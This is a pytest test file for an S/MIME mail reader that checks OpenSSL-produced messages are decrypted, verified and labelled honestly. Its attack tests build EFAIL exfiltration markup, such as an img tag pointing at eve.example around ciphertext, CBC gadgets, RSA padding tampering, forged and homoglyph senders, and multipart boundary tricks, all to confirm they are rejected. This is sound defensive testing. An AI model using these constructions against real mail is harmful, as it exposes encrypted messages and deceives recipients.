"""S/MIME mail of other programs is opened, verified, and never shown as better than it is.
Standard: RFC 8551; openssl-cms(1) writes the messages.
"""

from __future__ import annotations

import base64
import re
import time
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from typing import Any, NamedTuple

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7
from cryptography.x509.oid import ExtendedKeyUsageOID

from relay.errors import CannotOpen, NotForUs
from relay.formats import mime
from relay.formats.cms import der, oids
from relay.formats.cms.smime_enveloped import decode_others_enveloped
from relay.smime import OwnKey
from relay.smime.reading import SMIMEReading, _delimiters, read
from relay.smime.trust import RevocationList, Trust
from tests.testlib.openssl_cms import CLEAR, ENTITY, OPAQUE, encrypted, mail, signed
from tests.testlib.smime import Issuer, ca, certified

ANN, BEN = "ann@alice.example", "ben@bob.example"
NOW = datetime.now(UTC)
WORDS = b"The budget of the merger."
ANCHORS = (ca().certificate,)
OAEP = ("-keyopt", "rsa_padding_mode:oaep")


def pins(**by_mailbox: OwnKey) -> Callable[[str], Sequence[x509.Certificate]]:
    return lambda mailbox: [own.certificate for name, own in by_mailbox.items() if mailbox == f"{name}@bob.example"]


TRUST = Trust(pins(), ANCHORS)


@lru_cache
def office(kind: str = "rsa") -> OwnKey:
    return certified("securemail@alice.example", kind=kind, number=1)


@lru_cache
def of_ben(kind: str = "p256") -> OwnKey:
    return certified(BEN, kind=kind, number=2)


def opened(message: bytes, *keys: OwnKey, trust: Trust = TRUST, to: Sequence[str] = (ANN,)) -> SMIMEReading:
    reading = read(message, keys, trust, to, NOW)
    assert reading is not None
    return reading


@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-192-cbc", "aes-256-cbc", "aes-128-gcm", "aes-256-gcm"])
@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("rsa", ()),
        ("rsa", OAEP),
        ("rsa", (*OAEP, "-keyopt", "rsa_oaep_md:sha256")),
        ("rsa", ("-keyid",)),
        ("p256", ()),
        ("p384", ("-keyopt", "ecdh_kdf_md:sha256")),
        ("p521", ("-keyopt", "ecdh_kdf_md:sha512")),
        ("p256", ("-keyopt", "ecdh_kdf_md:sha224", "-keyid")),
        ("p256", ("-keyopt", "ecdh_kdf_md:sha384")),
    ],
)
def test_what_openssl_encrypts_is_opened(cipher: str, kind: str, options: tuple[str, ...]) -> None:
    own = office(kind)
    message = mail(
        encrypted(ENTITY, certified("x@alice.example", kind=kind, number=5), own, cipher=cipher, options=options)
    )
    reading = opened(message, own)
    assert reading.message.endswith(ENTITY)
    assert reading.message.startswith(b"From: Ben")
    cbc = cipher.endswith("cbc")
    assert reading.mark == f"smime; signed=no{'; unauthenticated=yes' if cbc else ''}"


@pytest.mark.parametrize("cipher", ["aes-256-cbc", "aes-256-gcm"])
@pytest.mark.parametrize("form", [CLEAR, OPAQUE])
@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("rsa", ()),
        ("rsa", ("-md", "sha512")),
        ("rsa", ("-keyopt", "rsa_padding_mode:pss")),
        ("p256", ()),
        ("p384", ("-md", "sha384", "-keyid")),
    ],
)
def test_a_signature_inside_is_good_for_its_author_alone(
    cipher: str, form: tuple[str, ...], kind: str, options: tuple[str, ...]
) -> None:
    ben = certified(BEN, kind=kind, number=2)
    entity = encrypted(signed(ENTITY, ben, *form, *options), office(), cipher=cipher)
    reading = opened(mail(entity), office())
    assert reading.mark == f"smime; signed=good; signer={BEN}"
    assert WORDS in reading.message
    assert (b"multipart/signed" in reading.message) == (form == CLEAR)
    assert opened(mail(entity, author="eve@bob.example"), office()).mark.startswith("smime; signed=bad")


def test_nested_layers_are_opened_and_the_innermost_signature_counts() -> None:
    gateway = certified("securemail@bob.example", number=3)
    triple = signed(encrypted(signed(ENTITY, of_ben(), *OPAQUE), office(), cipher="aes-256-gcm"), gateway)
    reading = opened(mail(triple), office())
    assert (reading.mark, reading.message.endswith(ENTITY)) == (f"smime; signed=good; signer={BEN}", True)
    # What is signed outside only says who sent the ciphertext on.
    outside = signed(encrypted(ENTITY, office(), cipher="aes-256-gcm"), of_ben())
    assert opened(mail(outside), office()).mark == "smime; signed=no"
    twice = encrypted(signed(encrypted(ENTITY, office()), of_ben()), office(), cipher="aes-256-gcm")
    assert opened(mail(twice), office()).mark == "smime; signed=no; unauthenticated=yes"
    deep = ENTITY
    for _ in range(4):
        deep = encrypted(deep, office())
    assert opened(mail(deep), office()).message.endswith(ENTITY)
    deep = encrypted(deep, office())
    with pytest.raises(CannotOpen, match="more than 4 layers"):
        opened(mail(deep), office())


@pytest.mark.parametrize("form", [CLEAR, OPAQUE])
def test_mail_that_is_only_signed_is_verified_and_not_changed(form: tuple[str, ...]) -> None:
    message = mail(signed(ENTITY, of_ben(), *form))
    reading = opened(message)
    assert (reading.mark, reading.message) == (f"none; signed=good; signer={BEN}", message)
    if form == CLEAR:
        changed = message.replace(b"budget", b"ticket")
        assert opened(changed).mark == "none; signed=bad"
        assert opened(message.replace(b"\r\n\r\n------", b"\r\nPay <b>now</b>\r\n------", 1)).mark == "none; signed=bad"
        assert opened(message + b"Pay now\r\n").mark == "none; signed=bad"


def test_ordinary_mail_and_mail_for_others_is_none_of_ours() -> None:
    for entity in (
        ENTITY,
        encrypted(ENTITY, certified(ANN, number=6)),
        encrypted(signed(ENTITY, of_ben()), certified(ANN, kind="p256", number=6), cipher="aes-256-gcm"),
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n",
        named_otherwise(encrypted(ENTITY, certified(ANN, number=6)), b""),
        cms_entity(pkcs7.serialize_certificates([of_ben().certificate], Encoding.DER)),
    ):
        assert read(mail(entity), [office()], TRUST, [ANN], NOW) is None


@pytest.mark.parametrize(
    "name", [b"", b"; smime-type=signed-data", b"; smime-type=x; smime-type=y", b"; name=smime.p7m"]
)
def test_cms_is_what_it_contains_whatever_its_header_says(name: bytes) -> None:
    """Programs leave smime-type out (RFC 8551, 3.2.2)."""
    good = f"signed=good; signer={BEN}"
    inside = named_otherwise(signed(ENTITY, of_ben(), *OPAQUE), name)
    assert opened(mail(inside)).mark == f"none; {good}"
    for cipher in ("aes-256-cbc", "aes-256-gcm"):
        reading = opened(mail(named_otherwise(encrypted(inside, office(), cipher=cipher), name)), office())
        assert (reading.mark, reading.message.endswith(ENTITY)) == (f"smime; {good}", True)


def test_what_a_user_sealed_inside_stays_for_the_user() -> None:
    inside = encrypted(ENTITY, certified(ANN, number=6))
    reading = opened(mail(encrypted(inside, office(), cipher="aes-256-gcm")), office())
    assert reading.message.endswith(inside[inside.index(b"\r\n\r\n") :])


# Whose key opens what


def test_a_key_of_a_person_opens_mail_to_that_person_only() -> None:
    """Else a captured mail to Ann, sent once more to Otto here, would be opened for Otto."""
    anns = replace(certified(ANN, number=6), mailboxes=frozenset({ANN}))
    ottos = replace(certified("otto@alice.example", kind="p256", number=7), mailboxes=frozenset({"otto@alice.example"}))
    both = mail(encrypted(ENTITY, anns, ottos))
    assert opened(both, anns, ottos, to=[ANN, "otto@alice.example"]).opened
    assert opened(both, anns, office(), to=["Ann@Alice.example"]).opened
    assert opened(both, anns, ottos, to=[ANN, "eve@alice.example"]).mailboxes == {ANN}
    with pytest.raises(NotForUs):
        opened(both, anns, ottos, to=["eve@alice.example"])
    content = mime.sealed_content(mail(encrypted(ENTITY, anns)))
    others = der_of(mime.sealed_content(mail(encrypted(b"X: y\r\n\r\nother\r\n", ottos)))).infos
    forged = cms_entity(with_infos(content, others))
    with pytest.raises(CannotOpen):
        opened(mail(forged), anns, ottos, to=["otto@alice.example"])


# Attacks


def test_efail_direct_exfiltration_nothing_in_a_multipart_is_opened() -> None:
    sealed = encrypted(signed(ENTITY, of_ben()), office())
    parts = [
        b'--x\r\nContent-Type: text/html\r\n\r\n<img src="http://eve.example/\r\n',
        b"--x\r\n" + sealed,
        b'--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n',
    ]
    for some in (parts, parts[1:], [*parts[:2], b"--x--\r\n"], [parts[1], b"--x--\r\n"]):
        message = mail(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + b"".join(some))
        assert read(message, [office()], TRUST, [ANN], NOW) is None
    behind = mail(sealed) + b"<img>"
    with pytest.raises(CannotOpen):
        read(behind, [office()], TRUST, [ANN], NOW)


@pytest.mark.parametrize("form", [None, CLEAR, OPAQUE])
def test_efail_gadgets_in_cbc_are_not_handed_on_as_anything_good(form: tuple[str, ...] | None) -> None:
    """The attacker knows a block of the plaintext, and puts chosen text between blocks that become random."""
    inside = ENTITY if form is None else signed(ENTITY, of_ben(), *form)
    content = mime.sealed_content(mail(encrypted(inside, office())))
    whole = decode_others_enveloped(content)
    for block in range(1, min(len(whole.ciphertext) // 16 - 2, 40)):
        known, chosen = inside[:16], b'<img src="//e/?'.ljust(16)
        first = bytes(a ^ b ^ c for a, b, c in zip(whole.nonce, known, chosen, strict=True))
        start = content.index(whole.ciphertext) + 16 * block
        gadget = content[:start] + first + whole.ciphertext[:16] + content[start + 32 :]
        try:
            reading = opened(mail(cms_entity(gadget)), office())
        except CannotOpen:
            continue
        assert form is not None
        if reading.signature.verdict == "good":  # the signed content is whole, and nothing else is handed on
            assert WORDS in reading.message and chosen not in reading.message
        else:
            assert reading.mark == "smime; signed=bad; unauthenticated=yes"


def test_gcm_content_announced_as_cbc_is_not_opened() -> None:
    content = mime.sealed_content(mail(encrypted(ENTITY * 3, office(), cipher="aes-256-gcm")))
    whole = decode_others_enveloped(content)
    ciphertext = whole.ciphertext[: len(whole.ciphertext) // 16 * 16]
    cbc = der.sequence(der.algorithm(x509.ObjectIdentifier("2.16.840.1.101.3.4.1.42"), der.element(4, bytes(16)))[2:])
    info = der.sequence(der.oid(oids.ID_DATA), cbc, der.element(0x80, ciphertext))
    data = der.sequence(der.integer(0), der_of(content).infos, info)
    forged = der.sequence(der.oid(x509.ObjectIdentifier("1.2.840.113549.1.7.3")), der.element(0xA0, data))
    with pytest.raises(CannotOpen):
        opened(mail(cms_entity(forged)), office())


@pytest.mark.parametrize("how", ["padding", "content", "length"])
def test_a_wrong_rsa_padding_looks_like_a_wrong_content(how: str) -> None:
    """Against Bleichenbacher's attack: the answer is the same, and nothing is raised early."""
    content = bytearray(mime.sealed_content(mail(encrypted(ENTITY, office()))))
    whole = decode_others_enveloped(bytes(content))
    (recipient,) = whole.recipients
    key = office().certificate.public_key()
    assert isinstance(key, RSAPublicKey)
    other = {"padding": bytes(256), "content": recipient.encrypted_key, "length": key.encrypt(b"short", PKCS1v15())}[
        how
    ]
    start = content.index(recipient.encrypted_key)
    content[start : start + 256] = other
    if how == "content":
        content[-1] ^= 1
    with pytest.raises(
        CannotOpen, match=r"^our key does not open this content, or it was changed on the way$|not text"
    ):
        opened(mail(cms_entity(bytes(content))), office())


def test_many_recipients_cost_little_and_a_thousand_are_not_read() -> None:
    content = mime.sealed_content(mail(encrypted(ENTITY, office())))
    one = der_of(content).infos
    info = one[len(der.header(der.SET, len(der.children(one, 1)[0]))) :]
    inside = b"".join([info] * 500)
    message = mail(cms_entity(with_infos(content, der.element(der.SET, inside))))
    begun = time.perf_counter()
    assert opened(message, office()).opened
    assert time.perf_counter() - begun < 2
    too_many = with_infos(content, der.element(der.SET, inside * 2))
    with pytest.raises(CannotOpen):
        opened(mail(cms_entity(too_many)), office())


@pytest.mark.parametrize(
    ("made", "verdict"),
    [
        ({"days": (-30, -1)}, "bad"),
        ({"days": (1, 30)}, "bad"),
        ({"usage": ("key_encipherment",)}, "bad"),
        ({"uses": (ExtendedKeyUsageOID.SERVER_AUTH,)}, "bad"),
        ({"uses": None}, "good"),
        ({"usage": ("content_commitment",)}, "good"),
        ({"issuer": ca("Example Mail CA", 98)}, "unknown"),
        ({"issuer": ca("Another CA", 98)}, "unknown"),
        ({"kind": "rsa-1024"}, "bad"),
    ],
)
def test_a_certificate_counts_only_for_what_it_was_issued(made: dict[str, Any], verdict: str) -> None:
    settings: dict[str, Any] = {"kind": "p256", "number": 2}
    ben = certified(BEN, **settings | made)
    message = mail(encrypted(signed(ENTITY, ben), office(), cipher="aes-256-gcm"))
    assert opened(message, office()).signature.verdict == verdict
    # Pinned, only the issuer no longer matters.
    pinned = opened(message, office(), trust=Trust(pins(ben=ben)))
    assert pinned.signature.verdict == verdict.replace("unknown", "good")


@pytest.mark.parametrize(
    "made",
    [
        certified("eve@bob.example", kind="p256", number=2),
        certified("ben@b0b.example", kind="p256", number=2),
        certified("ben@bob.example.eve.example", kind="p256", number=2),
        certified(dns=("bob.example",), kind="p256", number=2),
        certified(subject=BEN, kind="p256", number=2),
        certified("securemail@bob.example", dns=("bob.example",), kind="p256", number=2),
    ],
)
def test_a_certificate_of_a_ca_counts_for_its_addresses_alone(made: OwnKey) -> None:
    """One of the domain counts if it is pinned."""
    message = mail(signed(ENTITY, made))
    assert opened(message).mark == "none; signed=bad"
    of_domain = Trust(lambda mailbox: [made.certificate] if mailbox.endswith("@bob.example") else [])
    good = opened(message, trust=of_domain)
    assert (good.signature.verdict, good.signer) == ("good", "bob.example")
    assert opened(mail(signed(ENTITY, made), author="ben@bob.example.eve.example"), trust=of_domain).signer in (
        "", "ben@bob.example.eve.example",
    )  # fmt: skip


def test_a_ca_counts_for_what_it_may_vouch_for_and_a_persons_certificate_is_no_ca() -> None:
    of_bob = x509.NameConstraints([x509.RFC822Name("bob.example")], None)
    not_bob = x509.NameConstraints(None, [x509.RFC822Name("bob.example")])
    eve = certified("eve@bob.example", kind="p256", number=9)
    for issuer, verdict in (
        (ca("Below", 96, ca()), "good"), (ca("Below", 95, ca(), of_bob), "good"), (ca("Below", 94, ca(), not_bob), "unknown"),
        (Issuer(eve.certificate, eve.key), "unknown"), (ca("Below", 93, ca("Another CA", 98)), "unknown"),
    ):  # fmt: skip
        ben = certified(BEN, kind="p256", number=2, issuer=issuer)
        assert opened(mail(signed(ENTITY, ben))).signature.verdict == verdict


@pytest.mark.parametrize(
    "fields",
    [
        f"From: {BEN}\r\nFrom: eve@eve.example\r\n",
        f"From: eve@eve.example\r\nFrom: {BEN}\r\n",
        f"From: {BEN}, eve@eve.example\r\n",
        f'From: "{BEN}" <eve@eve.example>\r\n',
        f"From: {BEN} <eve@eve.example>\r\n",
        f"From : {BEN}\r\nno field\r\nFrom: eve@eve.example\r\n",
        "From: ben@b\u043eb.example\r\n",
        "From: ben@\uff42ob.example\r\n",
        f"From: eve: {BEN};\r\n, eve@eve.example\r\n",
        "From: \r\n",
        "Sender: ben@bob.example\r\n",
    ],
)
def test_who_the_author_is_must_be_beyond_doubt(fields: str) -> None:
    entity = encrypted(signed(ENTITY, of_ben()), office(), cipher="aes-256-gcm")
    reading = read(fields.encode() + entity, [office()], TRUST, [ANN], NOW)
    if reading is None:  # its header ends before the fields of MIME
        assert "\r\nno field" in fields or "\r\n," in fields
    else:
        assert reading.signature.verdict == "bad"


def test_two_certificates_for_one_address_count_if_both_are_pinned() -> None:
    first, second = of_ben(), certified(BEN, kind="p384", number=4, issuer=ca("Another CA", 98))
    both = Trust(lambda _: [first.certificate, second.certificate])
    for own, trust, verdict in (
        (first, both, "good"), (second, both, "good"), (second, Trust(pins(ben=first)), "unknown"),
        (second, Trust(pins(ben=first), ANCHORS), "unknown"),
    ):  # fmt: skip
        message = mail(signed(ENTITY, own, "-nocerts"))
        expected = "bad" if verdict == "unknown" else verdict  # a certificate that nobody has verifies nothing
        assert opened(message, trust=trust).signature.verdict == expected
        assert opened(mail(signed(ENTITY, own)), trust=trust).signature.verdict == verdict


@pytest.mark.parametrize("options", [("-md", "sha1"), ("-md", "md5"), ("-noattr",)])
def test_signatures_that_prove_nothing_are_bad(options: tuple[str, ...]) -> None:
    assert opened(mail(signed(ENTITY, certified(BEN, number=2), *options))).mark == "none; signed=bad"


def test_a_signature_that_others_added_changes_nothing() -> None:
    eve = certified("eve@eve.example", kind="p256", number=8)
    again = mail(signed(signed(ENTITY, of_ben()), eve))  # Eve around Ben: the innermost is Ben's
    assert opened(again).signature.verdict == "good"
    assert opened(mail(signed(signed(ENTITY, eve), of_ben()))).signature.verdict == "bad"


OF_CAS = x509.IssuingDistributionPoint(
    full_name=None, relative_name=None, only_contains_user_certs=False, only_contains_ca_certs=True,
    only_some_reasons=None, indirect_crl=False, only_contains_attribute_certs=False,
)  # fmt: skip


def test_what_a_crl_revokes_is_bad_and_an_old_crl_is_not_good() -> None:
    ben = of_ben()
    message = mail(signed(ENTITY, ben))

    def verdict(
        number: int, issuer: Issuer, *, ends: float = 1, pinned: bool = False, part: x509.ExtensionType | None = None
    ) -> str:
        revoked = x509.RevokedCertificateBuilder().serial_number(number).revocation_date(NOW).build()
        made = x509.CertificateRevocationListBuilder().issuer_name(issuer.certificate.subject)
        made = made.last_update(NOW - timedelta(days=3)).next_update(NOW + timedelta(days=ends))
        made = made.add_extension(part, critical=True) if part is not None else made
        crl = made.add_revoked_certificate(revoked).sign(issuer.key, hashes.SHA256())
        trust = Trust(lambda _: [ben.certificate] if pinned else [], ANCHORS, [RevocationList.of(crl)])
        return opened(message, trust=trust).signature.verdict

    serial = ben.certificate.serial_number
    for pinned in (False, True):
        assert verdict(serial, ca(), pinned=pinned) == "bad"
        assert verdict(serial + 1, ca(), pinned=pinned) == "good"
        assert verdict(serial + 1, ca(), ends=-1, pinned=pinned) == "unknown"
        # A CRL that another key has signed: whom it lists is revoked, for all others it says nothing.
        assert verdict(serial, ca("Example Mail CA", 98), pinned=pinned) == "bad"
        assert verdict(serial + 1, ca("Example Mail CA", 98), pinned=pinned) == "unknown"
        # One that has only changes, or some kinds of certificates, says nothing about others (RFC 5280, 5.2).
        for part in (x509.DeltaCRLIndicator(1), OF_CAS):
            assert verdict(serial, ca(), pinned=pinned, part=part) == "bad"
            assert verdict(serial + 1, ca(), pinned=pinned, part=part) == "unknown"


# Protected header fields (RFC 9788)

PROTECTED = (
    b'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\nSubject: The secret\r\nFrom: Ben <%s>\r\n'
    b"To: Ann <ann@alice.example>\r\nBcc: hidden@alice.example\r\nX-QuMail-Protection: otp\r\n"
    b"HP-Outer: Subject: [...]\r\nReply-To: ben@home.example\r\n\r\nThe budget of the merger.\r\n"
)


def test_nothing_that_servers_of_this_side_have_written_is_replaced_from_inside() -> None:
    inside = (
        b"Authentication-Results: mx.alice.example; dkim=pass\r\nX-Spam-Flag: NO\r\nDelivered-To: x@alice.example\r\n"
    )
    entity = (
        b'Content-Type: text/plain; hp="cipher"\r\nSubject: s\r\nFrom: Ben <ben@bob.example>\r\n'
        + inside
        + b"\r\nx\r\n"
    )
    outside = b"Authentication-Results: mx.alice.example; dkim=fail\r\nX-Spam-Flag: YES\r\n"
    reading = opened(outside + mail(encrypted(entity, office(), cipher="aes-256-gcm")), office())
    header = mime.header_of(reading.message)
    assert b"dkim=fail" in header
    assert b"X-Spam-Flag: YES" in header
    assert not any(each in header for each in inside.split(b"\r\n")[:-1])


def test_an_author_in_doubt_inside_takes_the_place_of_nobody() -> None:
    twice = b"From: Boss <boss@alice.example>\r\n" * 2
    entity = b'Content-Type: text/plain; hp="cipher"\r\nSubject: s\r\n' + twice + b"\r\nx\r\n"
    message = mail(encrypted(entity, office(), cipher="aes-256-gcm"))
    outer = b"From: Eve <eve@bob.example>, Eva <eva@bob.example>\r\n"
    message = re.sub(rb"(?m)^From: .*\r\n", outer, message, count=1)
    reading = opened(message, office())
    assert b"boss@alice.example" not in mime.header_of(reading.message)
    assert outer in mime.header_of(reading.message)


@pytest.mark.parametrize("line_end", [b"\r\n", b"\r", b"\n"])
@pytest.mark.parametrize("behind", [b"", b" " * 101, b"\t" * 150, b"x", b"--x"])
def test_a_part_before_the_signed_one_that_any_program_may_show_makes_the_signature_bad(
    behind: bytes, line_end: bytes
) -> None:
    begin, delimiter, rest = signed(ENTITY, of_ben(), *CLEAR).partition(b"\r\n------")
    boundary = b"------" + rest.partition(b"\r\n")[0]
    part = line_end + boundary + behind + line_end * 2 + b"Pay Eve." + line_end
    assert opened(mail(begin + delimiter + rest)).mark == f"none; signed=good; signer={BEN}"
    assert opened(mail(begin + part + delimiter + rest)).mark == "none; signed=bad"


def test_delimiters_are_found_without_holding_up_the_loop() -> None:
    body = b"--a\r\n\r\nx\r\n--a \t\r\ny\r\n--a--\r\n"
    found = _delimiters(body, b"--a")
    assert [(body[each.start : each.end], each.closes) for each in found] == [
        (b"--a", False), (b"\r\n--a \t", False), (b"\r\n--a--", True),
    ]  # fmt: skip


@pytest.mark.parametrize("sealed", [False, True])
def test_a_boundary_with_which_a_line_of_the_signed_text_begins_makes_the_signature_bad(sealed: bool) -> None:
    """Dovecot takes such a line for a delimiter, and would show "Pay Eve." alone."""
    text = b"Content-Type: text/plain\r\n\r\nPay Eve.\r\n--Only if Carol agrees.\r\n"
    genuine = signed(text, of_ben(), *CLEAR)
    boundary = genuine.partition(b'boundary="')[2].partition(b'"')[0]
    for entity, verdict in ((genuine, "good"), (genuine.replace(boundary, b"Only"), "bad")):
        whole = mail(encrypted(entity, office(), cipher="aes-256-gcm") if sealed else entity)
        assert opened(whole, office()).signature.verdict == verdict


@pytest.mark.parametrize("form", [CLEAR, OPAQUE])
def test_protected_fields_take_the_place_of_the_outer_ones(form: tuple[str, ...]) -> None:
    entity = encrypted(signed(PROTECTED % BEN.encode(), of_ben(), *form), office(), cipher="aes-256-gcm")
    message = b"Received: from x by y; Wed, 2 Dec 2026 12:00:00 +0000\r\n" + mail(entity, subject="[...]")
    reading = opened(message.replace(b"Subject:", b"Comments: forged\r\nSubject:"), office())
    header = mime.header_of(reading.message)
    assert reading.signature.verdict == "good"
    assert header.count(b"Subject: The secret\r\n") == header.count(b"Subject:") == 1
    assert b"Reply-To: ben@home.example" in header
    assert header.startswith(b"Received: from x")
    for gone in (b"forged", b"[...]", b"HP-Outer", b"hidden", b"X-QuMail"):
        assert gone not in header
    assert (b"hp=" in header) is False


def test_a_protected_from_counts_only_with_a_signature_for_it() -> None:
    for inner, author in ((BEN, BEN), ("boss@bob.example", "eve@bob.example")):
        entity = encrypted(signed(PROTECTED % inner.encode(), of_ben()), office(), cipher="aes-256-gcm")
        reading = opened(mail(entity, author="eve@bob.example"), office())
        assert mime.header_of(reading.message).count(b"From:") == 1
        assert author.encode() in mime.header_of(reading.message)
        assert (reading.signature.verdict == "good") == (inner == BEN)
    unsigned = encrypted(PROTECTED % b"boss@bob.example", office(), cipher="aes-256-gcm")
    header = mime.header_of(opened(mail(unsigned), office()).message)
    assert (b"boss@" in header, b"ben@bob.example" in header, b"The secret" in header) == (False, True, True)


# Edits of structures


class Parts(NamedTuple):
    """The RecipientInfos of an (Auth)EnvelopedData, whole."""

    infos: bytes


def der_of(content: bytes) -> Parts:
    inside = der.children(der.children(der.children(content, 1)[0], 2)[1], 1)[0]
    return Parts(der.element(der.SET, bytes(der.children(inside, 5)[1])))


def with_infos(content: bytes, infos: bytes) -> bytes:
    """The EnvelopedData with other RecipientInfos."""
    inside = der.children(der.children(der.children(content, 1)[0], 2)[1], 1)[0]
    version, _, encrypted_info = der.children(inside, 3)
    data = der.sequence(der.element(2, bytes(version)), infos, der.sequence(bytes(encrypted_info)))
    return der.sequence(der.oid(x509.ObjectIdentifier("1.2.840.113549.1.7.3")), der.element(0xA0, data))


def named_otherwise(entity: bytes, parameters: bytes) -> bytes:
    """The entity with other parameters of its Content-Type."""
    changed, times = re.subn(rb"(pkcs7-mime);[^\r]*(?:\r\n[ \t][^\r]*)*", rb"\1" + parameters, entity, count=1)
    assert times == 1
    return changed


def cms_entity(content: bytes) -> bytes:
    """A MIME entity around the structure."""
    head = (
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    return head + base64.encodebytes(content).replace(b"\n", b"\r\n")
